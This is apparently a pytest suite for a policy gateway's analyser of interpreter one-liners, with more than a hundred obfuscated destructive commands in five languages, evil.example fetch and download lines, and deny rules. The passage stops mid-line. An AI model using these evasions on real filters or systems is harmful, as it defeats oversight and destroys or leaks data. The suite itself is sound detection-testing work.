"""JavaScript, Ruby, Perl, PHP and Lua one-liners on their tree-sitter parsers.

Attacks (aliasing, computed names, encodings) come out flagged: unparseable, or naming the
harm (a command or script with the target, or a write of it). Where the interpreter is
installed, each runnable attack also runs for real against a temp directory, to show the harm
is real. Benign programs that only mention commands in strings and comments, print JSON or
read a file come out with no effects, or only the right reads.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from gateway.policy import Policy, decide, load_policy
from gateway.policy.shell.interp import CodeEffects, analyse_code

from .conftest import bash


def texts(effects: CodeEffects) -> list[str]:
    return [*effects.scripts, *(" ".join(w.text for w in c) for c in effects.commands)]


def flagged(effects: CodeEffects, target: str = "victim") -> bool:
    return bool(effects.unparseable) or any(target in t for t in texts(effects)) or any(
        target in w.text or w.dynamic for w in effects.writes)


# -- attacks ---------------------------------------------------------------------------------
JAVASCRIPT = [
    "const cp = require('child_process'); cp.execSync('rm -rf victim')",
    "const {execSync: x} = require('child_process'); x('rm -rf victim')",
    "const {execSync} = require('node:child_process');\n"
    "[1].forEach(() => execSync('rm -rf victim'))",
    "globalThis.process.mainModule.require('child_process').execSync('rm -rf victim')",
    "global.process.getBuiltinModule('fs').unlinkSync('victim')",
    "process['binding']('spawn_sync')",
    "process['main' + 'Module'].require('fs').unlinkSync('victim')",
    "require('child' + '_process').execSync('rm -rf victim')",
    "require(`child_process`).execSync(`rm -rf ${'vic' + 'tim'}`)",
    "require(String.fromCharCode(102, 115)).unlinkSync('victim')",
    "require(Buffer.from('ZnM=', 'base64').toString()).unlinkSync('victim')",
    "const m = 'child_process'; require(m).execSync('rm -rf victim')",
    "const fs = require('fs'); const g = fs; g.rmSync('victim', {recursive: true})",
    "const fs = require('node:fs'); fs.promises.rm('victim', {recursive: true, force: true})",
    "const {promises: p} = require('fs'); p.unlink('victim')",
    "import('node:child_process').then(m => m.execSync('rm -rf victim'))",
    "new Function('return process')().mainModule.require('fs').unlinkSync('victim')",
    "Reflect.apply(require('fs').unlinkSync, null, ['victim'])",
    "[require][0]('child_process').execSync('rm -rf victim')",
    "require.call(null, 'child_process').execSync('rm -rf victim')",
    "module.constructor._load('child_process').execSync('rm -rf victim')",
    "module.require('child_process').execSync('rm -rf victim')",
    "const r = require; r('child_process').execSync('rm -rf victim')",
    "(0, eval)(\"require('fs').unlinkSync('victim')\")",
    "globalThis['ev' + 'al'](\"require('fs').unlinkSync('victim')\")",
    "x = `${require('child_process').execSync('rm -rf victim')}`",
    "setTimeout('require(\"fs\").unlinkSync(\"victim\")')",
    "const fs = require('fs'); fs['unlink' + 'Sync']('victim')",
    "\\u0072equire('fs').unlinkSync('victim')",
    "require('fs')['\\x75nlinkSync']('victim')",
    "require('fs').\\u0075nlinkSync('victim')",
    "with (require('fs')) unlinkSync('victim')",
    "Object.assign(globalThis, require('fs')); unlinkSync('victim')",
    "const o = {f: require('fs').unlinkSync}; o.f('victim')",
    "const f = require('fs').unlinkSync; [['victim']].forEach(a => f(...a))",
    "function g(m) { m.unlinkSync('victim') } g(require('fs'))",
    "require('child_process').spawn('sh', {stdio: 'pipe'}).stdin.end('rm -rf victim')",
    "const c = require('child_process').exec('sh'); c.stdin.write('rm -rf victim')",
    "require('child_process').execSync('sh', {input: 'rm -rf victim'})",
    "require('child_process').execFileSync('sh', ['-c', 'rm -rf victim'])",
    "require('child_process').spawnSync('rm', ['-rf', 'victim'], {shell: true})",
    "require('child_process').execSync('true', {env: {BASH_ENV: 'victim'}})",
    "process.env.BASH_ENV = 'victim'; require('child_process').execSync('true')",
    "require('child_process').execSync(process.argv[1])",
    "const F = ({})[a][b]; F('return process')()",
    "[].constructor.constructor('return process')().mainModule",
    "Object.getPrototypeOf(async function () {}).constructor('return 1')",
    "x[k].call(null, 'victim')",
    "require('fs').unlinkSync(process.argv[1])",
    "require('fs').writeFileSync('victim', '')",
    "import {unlinkSync as u} from 'node:fs'; u('victim')",
    "import * as cp from 'child_process'; cp.execSync('rm -rf victim')",
    "import 'data:text/javascript,process.exit()'",
    "Deno.removeSync('victim')",
    "new Deno.Command('rm', {args: ['-rf', 'victim']}).outputSync()",
    "await Bun.$`rm -rf victim`",
    "Bun.spawnSync(['rm', '-rf', 'victim'])",
    "require('vm').runInThisContext('1')",
    "require('shelljs').rm('-rf', 'victim')",
    "require(process.argv[1])",
    "const {ChildProcess} = require('child_process'); "
    "new ChildProcess().spawn({file: 'sh', args: ['sh', '-c', 'rm -rf victim']})",
    "new (require('fs').WriteStream)('victim')",
    "process.report.writeReport('victim')",
    "const c = \"require('fs').unlinkSync('victim')\"; setTimeout(c)",
]

RUBY = [
    'Kernel.send(:system, "rm -rf victim")',
    'Kernel.public_send(:system, "rm -rf victim")',
    'Kernel.__send__("system", "rm -rf victim")',
    'm = :system; Kernel.send(m, "rm -rf victim")',
    '"system".then { |m| Kernel.send(m, "rm -rf victim") }',
    "%x{rm -rf victim}",
    '`rm -rf #{"vic" + "tim"}`',
    "`rm -rf #{ARGV[0]}`",
    'Kernel.method(:system).call("rm -rf victim")',
    '"rm -rf victim".then(&method(:system))',
    'Object.const_get(:Kernel).system("rm -rf victim")',
    'File.send(:delete, "victim")',
    'f = File; f.delete("victim")',
    '[File].each { |k| k.delete("victim") }',
    'IO.popen("sh", "w") { |io| io.puts "rm -rf victim" }',
    'IO.popen(["rm", "-rf", "victim"]).read',
    'open("|rm -rf victim")',
    'open("|" + "rm -rf victim")',
    'IO.read("|rm -rf victim")',
    'IO.write("|sh", "rm -rf victim")',
    'require "open3"; Open3.capture2("rm -rf victim")',
    'require "open3"; Open3.capture2("sh", stdin_data: "rm -rf victim")',
    'exec("rm", "-rf", "victim")',
    'spawn("rm -rf victim"); Process.wait',
    'Process.spawn("rm", "-rf", "victim")',
    'self.system("rm -rf victim")',
    'Kernel::system("rm -rf victim")',
    '::Kernel.system("rm -rf victim")',
    'system("rm", "-rf", "victim", exception: true)',
    'system({"BASH_ENV" => "victim"}, "true")',
    'ENV["BASH_ENV"] = "victim"; system("true")',
    '$stdin.reopen("victim"); exec "sh"',
    'system("sh", in: "victim")',
    'require "fileutils"; FileUtils.rm_rf("victim")',
    'require "fileutils"; include FileUtils; rm_rf "victim"',
    'FileUtils.rm_r(%w[victim])',
    'File.delete("victim")',
    'Dir.glob("vic*").each { |f| File.delete(f) }',
    'require "pathname"; Pathname("victim").delete',
    'Pathname.new("victim").rmtree',
    'ObjectSpace.each_object(Class) { |c| c }',
    'instance_eval("system(%q(rm -rf victim))")',
    'eval("sys" + "tem(%q(rm -rf victim))")',
    'binding.eval("1")',
    ':system.to_proc.call(Kernel, "rm -rf victim")',
    '["rm -rf victim"].each(&:system)',
    'alias s system; s "rm -rf victim"',
    'c = "ls"; /(?<c>.+)/ =~ "rm -rf victim"; system(c)',
    'system("ls", out: "victim")',
    'Marshal.load(STDIN.read)',
    'load "victim.rb"',
    'require ARGV[0]',
    'PTY.spawn("rm -rf victim")',
    '$stdout.reopen("victim")',
    'Object.new.send(:open, "|rm -rf victim")',
    'Signal.trap("INT", "system(%q(rm -rf victim))")',
    "x = <<~`CMD`\n  rm -rf victim\nCMD",
    'Kernel.`("rm -rf victim")',
]

PERL = [
    'system("rm -rf victim")',
    'system "rm", "-rf", "victim"',
    "exec 'rm', '-rf', 'victim'",
    "`rm -rf victim`",
    "qx{rm -rf victim}",
    "qx'rm -rf victim'",
    "readpipe('rm -rf victim')",
    'open(F, "| rm -rf victim"); close F',
    'open(F, "rm -rf victim|"); close F',
    'open(my $f, "-|", "rm", "-rf", "victim")',
    'open(my $f, "|-", "sh") or die; print $f "rm -rf victim\\n"',
    'my $n = shift; open(F, $n)',
    '&{"sys"."tem"}("rm -rf victim")',
    'my $c = "sys"."tem"; &$c("rm -rf victim")',
    '*x = \\&CORE::system; x("rm -rf victim")',
    'my $f = \\&CORE::unlink; $f->("victim")',
    'my $f = "CORE::readpipe"; $f->("rm -rf victim")',
    'CORE::system("rm -rf victim")',
    'CORE::unlink("victim")',
    'eval "unl"."ink q(victim)"',
    'eval qq{system "rm -rf victim"}',
    's//"unl"."ink q(victim)"/ee',
    'my $x = "x"; $x =~ s/x/system("rm -rf victim")/e',
    '"x" =~ /(?{ unlink q(victim) })/',
    'use POSIX; remove("victim")',
    'require File::Path; File::Path::rmtree("victim")',
    'use File::Path qw(rmtree); rmtree("victim")',
    'File::Path->rmtree("victim")',
    'main->can("sys"."tem")->("rm -rf victim")',
    'my $m = "system"; main->$m("rm -rf victim")',
    '@ARGV = ("rm -rf victim|"); print while <>',
    'push @ARGV, "rm -rf victim|"; print while <>',
    'print "@{[ system q(rm -rf victim) ]}"',
    'print "${\\ system q(rm -rf victim)}"',
    'exec { "sh" } "sh", "-c", "rm -rf victim"',
    'sysopen(F, "victim", O_WRONLY|O_TRUNC)',
    '$ENV{BASH_ENV} = "victim"; system "true"',
    'open(STDIN, "<", "victim"); exec "sh"',
    'do "victim.pl"',
    'my $m = "POSIX"; require $m',
    'unlink glob "vic*"',
    'goto &{"CORE::system"}',
    'my $code = sub { system @_ }; $code->("rm -rf victim")',
    'local $SIG{ALRM} = "CORE::GLOBAL::die"',
    'my %h = %main::',
    'use IPC::Open3; open3(my $i, my $o, undef, "rm -rf victim")',
    'my $f = "victim"; unlink $f',
    'system("rm -rf $ENV{HOME}")',
    'system(qq{rm -rf \\x76ictim})',
    'syscall(87, "victim")',
    'open(local *STDIN, "<", "victim"); exec "sh"',
    '$^I = ""; @ARGV = ("victim"); while (<>) { print "" }',
    'use re "eval"; my $c = q{(?{ unlink "victim" })}; "a" =~ /$c/',
]

PHP = [
    'system("rm -rf victim");',
    '$f = "system"; $f("rm -rf victim");',
    '("sys"."tem")("rm -rf victim");',
    '"system"("rm -rf victim");',
    '"\\x73ystem"("rm -rf victim");',
    '`rm -rf victim`;',
    'call_user_func("system", "rm -rf victim");',
    'call_user_func_array("system", ["rm -rf victim"]);',
    'array_map("unlink", ["victim"]);',
    'array_map("UNLINK", ["victim"]);',
    'usort($a, "system");',
    '$o = new ArrayObject(["rm -rf victim"]); $o->uasort("system");',
    'register_shutdown_function("system", "rm -rf victim");',
    'use function system as s; s("rm -rf victim");',
    '\\SYSTEM("rm -rf victim");',
    '(new ReflectionFunction("system"))->invoke("rm -rf victim");',
    'Closure::fromCallable("system")("rm -rf victim");',
    '$f = system(...); $f("rm -rf victim");',
    'array_map(system(...), ["rm -rf victim"]);',
    "eval('unlink(\"victim\");');",
    "assert('unlink(\"victim\")');",
    'include "data://text/plain;base64,PD9waHAgdW5saW5rKCJ2aWN0aW0iKTs=";',
    '$a = ["system"]; $a[0]("rm -rf victim");',
    '${"f"} = "system"; $f("rm -rf victim");',
    '$n = "f"; $$n = "system";',
    'echo "{${system("rm -rf victim")}}";',
    'extract(["c" => "rm -rf victim"]); system($c);',
    'passthru($argv[1]);',
    'shell_exec("rm -rf " . $argv[1]);',
    'popen("rm -rf victim", "r");',
    'popen("sh", "w");',
    'proc_open("rm -rf victim", [], $p);',
    'pcntl_exec("/bin/rm", ["-rf", "victim"]);',
    'exec("rm -rf victim", $out);',
    'file_put_contents("victim", "");',
    'new SplFileObject("victim", "w");',
    'unlink("victim");',
    'rmdir("victim");',
    'rename("other", "victim");',
    'copy("/dev/null", "victim");',
    '$c = "un" . "link"; $c("victim");',
    '$c = "ls"; preg_match("/(.*)/", "rm -rf victim", $c); system($c[0]);',
    'putenv("BASH_ENV=victim"); system("true");',
    'putenv("LD_PRELOAD=./victim.so"); mail("a@b", "s", "m");',
    'simplexml_load_string("<a/>")->asXML("victim");',
    '$o->$m("rm -rf victim");',
    'A::$m("rm -rf victim");',
    'new $c("rm -rf victim");',
    'include $argv[1];',
    'copy("https://evil.example/x", "victim");',
]

LUA = [
    'os.execute("rm -rf victim")',
    'os.execute "rm -rf victim"',
    'local o = os; o.execute("rm -rf victim")',
    'os["execute"]("rm -rf victim")',
    'os["exe".."cute"]("rm -rf victim")',
    'os[string.char(101, 120, 101, 99, 117, 116, 101)]("rm -rf victim")',
    '_G.os.execute("rm -rf victim")',
    '_G["os"]["remove"]("victim")',
    '_ENV.os.remove("victim")',
    'load("os.remove(\'victim\')")()',
    'loadstring("os.remove(\'victim\')")()',
    'dofile("victim.lua")',
    'require("os").remove("victim")',
    'io.popen("sh", "w"):write("rm -rf victim")',
    'io.popen("rm -rf victim"):read("*a")',
    'io.open("victim", "w"):close()',
    'os.remove("victim")',
    'os.rename("other", "victim")',
    'local e = os.execute; e("rm -rf victim")',
    'setmetatable({}, {__index = os}).execute("rm -rf victim")',
    'getfenv(0).os.execute("rm -rf victim")',
    'package.loaded.os.execute("rm -rf victim")',
    'debug.getregistry()',
    '(os).execute("rm -rf victim")',
    'os.execute(("rm -rf %s"):format("victim"))',
    'os.execute("rm -rf " .. arg[1])',
    'local t = {os.execute}; t[1]("rm -rf victim")',
    'coroutine.wrap(os.execute)("rm -rf victim")',
    'rawget(_G, "os").execute("rm -rf victim")',
    'local s = "rm -rf victim"; os.execute(s)',
    'os.execute("rm -rf \\118ictim")',
    'io.output("victim")',
    'require("ffi")',
    'require(arg[1])',
]

ATTACKS = [*(("javascript", s) for s in JAVASCRIPT), *(("ruby", s) for s in RUBY),
           *(("perl", s) for s in PERL), *(("php", s) for s in PHP), *(("lua", s) for s in LUA)]


def test_each_language_has_enough_attacks() -> None:
    for cases in (JAVASCRIPT, RUBY, PERL, PHP, LUA):
        assert len(cases) >= 30
    assert len(set(ATTACKS)) == len(ATTACKS)


@pytest.mark.parametrize(("language", "source"), ATTACKS)
def test_attacks_are_flagged(language: str, source: str) -> None:
    effects = analyse_code(language, source)
    assert flagged(effects), effects
    assert "internal error" not in effects.unparseable


# -- what the analysis reads out of the attacks -------------------------------------------------
EXACT = [
    ("javascript", "const {execSync: x} = require('child_process'); x('rm -rf victim')",
     ["rm -rf victim"]),
    ("javascript", "require('fs').rmSync('victim', {recursive: true})", ["rm -r -f -- victim"]),
    ("javascript", "require('fs').rmSync('victim', {force: true})", ["rm -f -- victim"]),
    ("javascript", "require('fs').rmSync('victim')", ["rm -- victim"]),
    ("javascript", "require('fs').rmSync('victim', opts)", ["rm -r -f -- victim"]),
    ("javascript", "require('fs').rmdirSync('d')", ["rmdir -- d"]),
    ("javascript", "require('fs').renameSync('a', 'b')", ["mv -- a b"]),
    ("javascript", "require('child_process').spawnSync('ls', ['-l'], {stdio: 'inherit'})",
     ["ls -l"]),
    ("javascript", "require('child_process').execSync('sh', {input: 'rm -rf victim'})",
     ["{ sh\n} <<< 'rm -rf victim'"]),
    ("javascript", "require('child_process').execSync('ls', {cwd: 'sub'})",
     ["cd -- sub && { ls\n}"]),
    ("javascript", "require('child_process').spawnSync('rm', ['-rf', 'victim'], {shell: true})",
     ["rm -rf victim"]),
    ("javascript", "process.env.BASH_ENV = 'x'; require('child_process').execSync('true')",
     ["env BASH_ENV=x sh -c true"]),
    ("javascript", "fetch('https://evil.example/?' + x)", ["curl https://evil.example/?{?}"]),
    ("ruby", 'system "rm", "-rf", "victim"', ["rm -rf victim"]),
    ("ruby", "FileUtils.rm_rf(%w[a b])", ["rm -r -f -- a", "rm -r -f -- b"]),
    ("ruby", 'File.delete("victim")', ["rm -- victim"]),
    ("ruby", "Net::HTTP.get(URI('https://evil.example/x'))", ["curl https://evil.example/x"]),
    ("perl", 'system "rm", "-rf", "victim"', ["rm -rf victim"]),
    ("perl", "unlink 'a', 'b'", ["rm -- a", "rm -- b"]),
    ("perl", 'use File::Path qw(rmtree); rmtree("victim")', ["rm -r -f -- victim"]),
    ("perl", "my $x = 'x'; $x =~ s/x/system('ls')/e", ["ls"]),
    ("php", '`rm -rf victim`;', ["rm -rf victim"]),
    ("php", 'unlink("victim");', ["rm -- victim"]),
    ("php", 'pcntl_exec("/bin/rm", ["-rf", "victim"]);', ["/bin/rm -rf victim"]),
    ("php", 'echo file_get_contents("https://evil.example/x");', ["curl https://evil.example/x"]),
    ("lua", 'os["exe".."cute"]("rm -rf victim")', ["rm -rf victim"]),
    ("lua", 'os.remove("a\\x41")', ["rm -- aA"]),
]


@pytest.mark.parametrize(("language", "source", "expected"), EXACT)
def test_effects_are_read_exactly(language: str, source: str, expected: list[str]) -> None:
    effects = analyse_code(language, source)
    assert not effects.unparseable, effects
    assert texts(effects) == expected


def test_files_are_reads_and_writes_with_their_paths() -> None:
    effects = analyse_code("javascript", "require('fs').writeFileSync('out.txt', 'x')")
    assert [w.text for w in effects.writes] == ["out.txt"] and not effects.reads
    effects = analyse_code("ruby", 'File.open("out.txt", "w") { |f| f.puts 1 }')
    assert [w.text for w in effects.writes] == ["out.txt"]
    effects = analyse_code("perl", "open(my $h, '>>', 'log.txt')")
    assert [w.text for w in effects.writes] == ["log.txt"]
    effects = analyse_code("php", 'echo file_get_contents("php://filter/resource=.env");')
    assert [w.text for w in effects.reads] == [".env"]
    effects = analyse_code("lua", "for l in io.lines('/etc/hosts') do print(l) end")
    assert [w.text for w in effects.reads] == ["/etc/hosts"]
    effects = analyse_code("javascript", "require('fs').readFileSync(process.argv[2])")
    assert effects.reads[0].dynamic and not effects.unparseable
    effects = analyse_code("php", 'chdir("sub"); unlink("victim");')
    assert effects.writes[0].dynamic  # relative to a directory the code changed to


def test_a_parse_error_is_unparseable_never_no_effects() -> None:
    for language, source in (("javascript", "console.log("), ("ruby", "puts(1"),
                             ("perl", "my $x = ;"), ("php", "echo 1"), ("lua", "print(1")):
        effects = analyse_code(language, source)
        assert f"not valid {language}" in effects.unparseable, (language, effects)


# -- benign programs ---------------------------------------------------------------------------
BENIGN = [
    ("javascript", "console.log('rm')", []),
    ("javascript", "console.log('rm -rf /'); console.log(\"eval is evil\")", []),
    ("javascript", "// rm -rf /\n/* require('child_process').execSync('x') */\nconsole.log(1)", []),
    ("javascript", "console.log(require('./package.json').version)", ["./package.json"]),
    ("javascript", "console.log(JSON.stringify({a: 1, cmd: 'rm -rf x'}, null, 2))", []),
    ("javascript", "const fs = require('fs'); console.log(fs.readFileSync('a.txt', 'utf8')"
                   ".split('\\n').length)", ["a.txt"]),
    ("javascript", "process.stdin.on('data', d => process.stdout.write(d.toString()"
                   ".toUpperCase()))", []),
    ("javascript", "console.log(process.version, process.platform, process.env.HOME)", []),
    ("javascript", "let s = ''; process.stdin.on('data', c => s += c).on('end', () => "
                   "console.log(JSON.parse(s).name))", []),
    ("javascript", "console.log(/rm -rf|exec|eval/.test(process.argv[2]))", []),
    ("javascript", "console.log([...'exec'].reverse().join(''))", []),
    ("javascript", "const os = require('os'); console.log(os.cpus().length, os.EOL)", []),
    ("javascript", "console.log(require('path').resolve('.'))", []),
    ("javascript", "console.log(Buffer.from('aGk=', 'base64').toString())", []),
    ("javascript", "for (const [k, v] of Object.entries({a: 1})) console.log(k, v)", []),
    ("javascript", "console.log(typeof require, typeof process)", []),
    ("javascript", "async function main() { console.log(await Promise.resolve(1)) } main()", []),
    ("javascript", "import fs from 'node:fs'; console.log(fs.readFileSync('x.json', 'utf8'))",
     ["x.json"]),
    ("javascript", "const o = {a: 1}; const k = 'a'; console.log(o['a'], o[k])", []),
    ("javascript", "console.log(require('fs').readdirSync('.').filter(f => f.endsWith('.js')))",
     []),
    ("javascript", "require('fs').existsSync('x') && console.log('yes')", []),
    ("javascript", "console.log(new Date().toISOString(), Math.max(...[1, 2]))", []),
    ("ruby", "puts 1+1", []),
    ("ruby", 'puts "rm -rf /"; puts \'system("x")\'', []),
    ("ruby", '# system("rm -rf /")\nputs 1', []),
    ("ruby", 'puts File.read("Gemfile")', ["Gemfile"]),
    ("ruby", 'require "json"; puts JSON.pretty_generate({a: 1})', []),
    ("ruby", 'puts Dir.glob("*.rb").sort', []),
    ("ruby", "STDIN.each_line { |l| puts l if l =~ /foo/ }", []),
    ("ruby", "puts ARGF.read.scan(/\\w+/).tally.max_by { |_, v| v }", []),
    ("ruby", "h = {a: 1}; h.delete(:a); p h", []),
    ("ruby", 'puts "eval".upcase, "exec".length', []),
    ("ruby", "p [1, 2, 3].map { |x| x * 2 }.sum", []),
    ("ruby", 'puts ENV["HOME"], Time.now.strftime("%F")', []),
    ("ruby", 'require "yaml"; puts YAML.load_file("config.yml")["x"]', ["config.yml"]),
    ("ruby", '$stdout.sync = true; STDOUT.puts "x"; warn "y"', []),
    ("ruby", 'x = "system"; puts x.length', []),
    ("ruby", "a = %w[x y]; puts a.join(',')", []),
    ("ruby", "def f(x) = x * 2\nputs f(2)", []),
    ("perl", "print if /foo/", []),
    ("perl", 'print "rm -rf /\\n"; print q{system("x")}', []),
    ("perl", '# system("rm -rf /")\nprint 1', []),
    ("perl", 'print join ",", map { $_ * 2 } 1..3', []),
    ("perl", "while (<>) { print if /x/ }", []),
    ("perl", "my @a = split /,/, $_; print $a[0]", []),
    ("perl", 'printf("%s\\n", "system")', []),
    ("perl", "s/foo/bar/g", []),
    ("perl", 'open(my $f, "<", "x.txt") or die; print while <$f>', ["x.txt"]),
    ("perl", "use strict; use warnings; use POSIX qw(floor); print floor(2.5)", []),
    ("perl", "use List::Util qw(sum); print sum(1..10)", []),
    ("perl", "chomp; print length", []),
    ("perl", 'print "$1\\n" if /(\\d+)/', []),
    ("perl", "s/(\\d+)/$1*2/e", []),
    ("perl", "local $/; print uc <STDIN>", []),
    ("perl", "my $s = eval { die 'x' }; print $@", []),
    ("perl", 'my %h; $h{$_}++ for split //, "hello"; print scalar keys %h', []),
    ("perl", 'print STDERR "unlink exec\\n"', []),
    ("php", "echo json_encode([1]);", []),
    ("php", 'echo "rm -rf /"; echo \'system("x")\';', []),
    ("php", '// system("rm -rf /")\necho 1; # exec\n/* eval */', []),
    ("php", 'echo strtoupper("exec");', []),
    ("php", "var_dump(array_map(fn($x) => $x * 2, [1, 2]));", []),
    ("php", 'echo file_get_contents("composer.json");', ["composer.json"]),
    ("php", 'echo json_decode(file_get_contents("php://stdin"), true)["x"];', []),
    ("php", 'echo implode(",", array_map("strtoupper", ["a"]));', []),
    ("php", 'echo date("Y-m-d"), PHP_EOL, PHP_VERSION;', []),
    ("php", 'foreach ([1, 2] as $v) { echo $v; }', []),
    ("php", '$x = "system"; echo strlen($x);', []),
    ("php", 'usort($a, fn($x, $y) => $x <=> $y); print_r(array_filter([1, 0, 2]));', []),
    ("php", 'echo preg_replace("/a/", "b", "aaa"), sprintf("%05d", 42);', []),
    ("lua", "print(1)", []),
    ("lua", 'print("rm -rf /"); print([[os.execute("x")]])', []),
    ("lua", '-- os.execute("rm -rf /")\nprint(1)', []),
    ("lua", 'print(string.format("%d", 3))', []),
    ("lua", "for l in io.lines() do print(l:upper()) end", []),
    ("lua", "print(os.time(), os.getenv('HOME'), os.date('%Y'))", []),
    ("lua", 'io.write("x\\n"); io.stdout:write("y\\n")', []),
    ("lua", 'local t = {} for w in ("a b"):gmatch("%S+") do t[#t+1] = w end print(#t)', []),
    ("lua", 'for l in io.lines("data.txt") do print(l) end', ["data.txt"]),
    ("lua", "local t = {os = 1, execute = 2}; print(t.os, t.execute)", []),
]


@pytest.mark.parametrize(("language", "source", "reads"), BENIGN)
def test_benign_programs_have_no_effects_or_only_their_reads(language: str, source: str,
                                                             reads: list[str]) -> None:
    effects = analyse_code(language, source)
    assert not effects.unparseable, effects
    assert not effects.commands and not effects.scripts and not effects.writes, effects
    assert [w.text for w in effects.reads] == reads


# -- the harm is real ----------------------------------------------------------------------------
RUNNABLE = {
    "node": ("javascript", "-e", [
        "const cp = require('child_process'); cp.execSync('rm -rf victim')",
        "const {execSync: x} = require('child_process'); x('rm -rf victim')",
        "require('child' + '_process').execSync('rm -rf victim')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115))"
        ".execSync('rm -rf victim')",
        "const fs = require('fs'); const g = fs; g.rmSync('victim', {recursive: true})",
        "process['binding'] && require('fs')['rm' + 'Sync']('victim', {recursive: true})",
        "require('fs')['\\x72mSync']('victim', {recursive: true})",
        "\\u0072equire('fs').rmSync('victim', {recursive: true})",
        "const F = ({})['constructor']['constructor']; "
        "F('return process')().getBuiltinModule('fs').rmSync('victim', {recursive: true})",
        "require('child_process').spawn('sh', {stdio: 'pipe'}).stdin.end('rm -rf victim')",
        "require('child_process').execSync('sh', {input: 'rm -rf victim'})",
        "import('node:child_process').then(m => m.execSync('rm -rf victim'))",
        "const o = {f: require('fs').rmSync}; o.f('victim', {recursive: true})",
    ]),
    "ruby": ("ruby", "-e", [
        'Kernel.send(:system, "rm -rf victim")',
        '"system".then { |m| Kernel.send(m, "rm -rf victim") }',
        "%x{rm -rf victim}",
        '`rm -rf #{"vic" + "tim"}`',
        '"rm -rf victim".then(&method(:system))',
        'Object.const_get(:Kernel).system("rm -rf victim")',
        'require "fileutils"; f = FileUtils; f.rm_rf("victim")',
        'IO.popen("sh", "w") { |io| io.puts "rm -rf victim" }',
        'open("|rm -rf victim").read',
        'require "open3"; Open3.capture2("sh", stdin_data: "rm -rf victim")',
        ':system.to_proc.call(Kernel, "rm -rf victim")',
        'alias s system; s "rm -rf victim"',
        'c = "ls"; /(?<c>.+)/ =~ "rm -rf victim"; system(c)',
        'require "fileutils"; include FileUtils; rm_rf "victim"',
        'Object.new.send(:open, "|rm -rf victim").read',
        "x = <<~`CMD`\n  rm -rf victim\nCMD",
    ]),
    "perl": ("perl", "-e", [
        'my $c = "CORE::read"."pipe"; &$c("rm -rf victim")',
        'no strict "refs"; &{"CORE::read"."pipe"}("rm -rf victim")',
        'my $f = "CORE::readpipe"; $f->("rm -rf victim")',
        '*x = \\&CORE::readpipe; x("rm -rf victim")',
        'eval qq{system "rm -rf victim"}',
        'my $x = "x"; $x =~ s/x/system("rm -rf victim")/e',
        'print "@{[ system q(rm -rf victim) ]}"',
        'exec { "sh" } "sh", "-c", "rm -rf victim"',
        'open(my $f, "|-", "sh") or die; print $f "rm -rf victim\\n"',
        'use File::Path qw(rmtree); rmtree("victim")',
        'File::Path->can("rmtree") or require File::Path; File::Path::rmtree("victim")',
        'main->can("sys"."tem") ? 1 : system("rm -rf victim")',
        'push @ARGV, "rm -rf victim|"; print while <>',
        'open(my $o, ">", "c.sh"); print $o "rm -rf victim\\n"; close $o; '
        'open(STDIN, "<", "c.sh") or die; system "sh"',
        'use re "eval"; my $c = q{(?{ system "rm -rf victim" })}; "a" =~ /$c/',
    ]),
    "php": ("php", "-r", [
        '$f = "system"; $f("rm -rf victim");',
        '("sys"."tem")("rm -rf victim");',
        '"\\x73ystem"("rm -rf victim");',
        'call_user_func("system", "rm -rf victim");',
        'use function system as s; s("rm -rf victim");',
        '\\SYSTEM("rm -rf victim");',
        '(new ReflectionFunction("system"))->invoke("rm -rf victim");',
        '$f = system(...); $f("rm -rf victim");',
        '$a = ["rm -rf victim"]; array_map("system", $a);',
        '$a = ["rm -rf victim", "x"]; usort($a, "system");',
        'extract(["c" => "rm -rf victim"]); system($c);',
        '$p = popen("sh", "w"); fwrite($p, "rm -rf victim\\n"); pclose($p);',
    ]),
    "lua5.4": ("lua", "-e", [
        'os["exe".."cute"]("rm -rf victim")',
        'os[string.char(101,120,101,99,117,116,101)]("rm -rf victim")',
        'local o = os; o.execute("rm -rf victim")',
        '_G["os"]["execute"]("rm -rf victim")',
        'load("os.execute(\'rm -rf victim\')")()',
        'io.popen("sh", "w"):write("rm -rf victim\\n")',
        'local e = os.execute; e("rm -rf victim")',
        'setmetatable({}, {__index = os}).execute("rm -rf victim")',
        'local t = {os.execute}; t[1]("rm -rf victim")',
    ]),
}


def _runs() -> list[object]:
    cases = []
    for program, (language, flag, sources) in RUNNABLE.items():
        missing = shutil.which(program) is None
        for source in sources:
            cases.append(pytest.param(program, flag, language, source, marks=pytest.mark.skipif(
                missing, reason=f"{program} is not installed"), id=f"{language}: {source[:50]}"))
    return cases


@pytest.mark.parametrize(("program", "flag", "language", "source"), _runs())
def test_attacks_do_real_harm_and_are_flagged(tmp_path: Path, program: str, flag: str,
                                              language: str, source: str) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious").write_text("precious")
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path)}
    subprocess.run([program, flag, source], cwd=tmp_path, env=env, timeout=30,
                   capture_output=True, check=False, stdin=subprocess.DEVNULL)
    assert not (victim / "precious").exists(), "the attack did not work: the test proves nothing"
    assert flagged(analyse_code(language, source))


# -- hostile inputs end in a verdict -------------------------------------------------------------
HOSTILE = [
    ("perl", "open(" * 13000), ("javascript", "[" * 60000), ("javascript", "a+" * 30000 + "a"),
    ("ruby", "(" * 60000), ("php", "array_map(" * 6000), ("lua", "x = " + "'a' .. " * 9000 + "'a'"),
    ("javascript", "\x00"), ("ruby", "\udcff"), ("perl", "print '\ud800'"),
]


@pytest.mark.parametrize(("language", "source"), HOSTILE, ids=lambda v: str(v)[:20])
def test_hostile_inputs_get_a_verdict(language: str, source: str) -> None:
    effects = analyse_code(language, source)
    assert "internal error" not in effects.unparseable, effects
    assert not effects.commands and not effects.scripts


def test_a_parse_that_takes_too_long_is_unparseable() -> None:
    """Error recovery on `open(` repeated costs tree-sitter-perl seconds: the parse is cut."""
    effects = analyse_code("perl", "open(" * 13000)
    assert effects.unparseable


def test_a_cut_parse_does_not_leak_into_the_next_program() -> None:
    """tree-sitter resumes a cancelled parse on the next call unless the parser is reset: the
    second program of one command would be read as the rest of the first."""
    assert analyse_code("perl", "open(" * 13000).unparseable
    effects = analyse_code("perl", 'unlink "victim";')
    assert texts(effects) == ["rm -- victim"], effects


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory) -> Policy:
    path = tmp_path_factory.mktemp("interp") / "org.yaml"
    path.write_text("version: 1\npermissions:\n  deny: ['Bash(rm -rf:*)', 'Bash(rm:*)', "
